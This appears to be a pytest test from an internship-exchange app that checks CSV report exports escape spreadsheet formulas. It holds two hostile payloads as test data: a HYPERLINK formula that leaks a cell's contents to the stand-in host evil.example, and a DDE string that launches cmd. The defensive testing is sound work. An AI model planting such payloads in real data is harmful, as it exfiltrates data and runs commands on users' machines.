"""Issue 17 point 4: the audit's payloads — a host's partnership comment and an intern's
reaction — arrive in the *home* business's report.csv (one internship, and the business's) as
text a spreadsheet shows, not as live formulas."""

from __future__ import annotations

import csv
import io

from sqlmodel import Session

from exchange.accounts.models import User
from exchange.internships import feedback
from exchange.internships.models import FeedbackKind, Internship
from exchange.internships.progress_schemas import RatingIn
from exchange.profiles.models import Business
from tests.conftest import Client

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


def test_the_home_business_csv_reports_carry_no_formulas(
        make_client: object, session: Session, completed_internship: Internship,
        rajeev: User, meera: User, afreen: User, afreen_firm: Business) -> None:
    internship = completed_internship
    feedback.submit(session, internship, rajeev, FeedbackKind.host_partnership,
                    RatingIn(rating=2, comment=HYPERLINK))
    feedback.submit(session, internship, meera, FeedbackKind.intern_reaction,
                    RatingIn(rating=5, comment=DDE))
    feedback.submit(session, internship, afreen, FeedbackKind.home_partnership,
                    RatingIn(rating=4, comment="-3 stars would be unfair"))
    internship.title = "=1+1 " + internship.title  # titles reach the business CSV
    session.add(internship)
    session.commit()
    client: Client = make_client(afreen)  # type: ignore[operator]

    one = client.get(f"/internships/{internship.id}/report.csv")
    assert one.status_code == 200, one.text
    cells = _cells(_rows(one.text))
    assert {"'" + HYPERLINK, "'" + DDE, "'-3 stars would be unfair"} <= cells
    assert not any(cell.startswith(("=", "@", "+", "-")) and not _number(cell)
                   for cell in cells), cells
    assert {"2", "5", "4"} <= cells  # the ratings stay numbers

    whole = client.get(f"/businesses/{afreen_firm.slug}/internship-report.csv")
    assert whole.status_code == 200, whole.text
    titles = [row[1] for row in _rows(whole.text)[1:-1]]
    assert titles == ["'" + internship.title]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
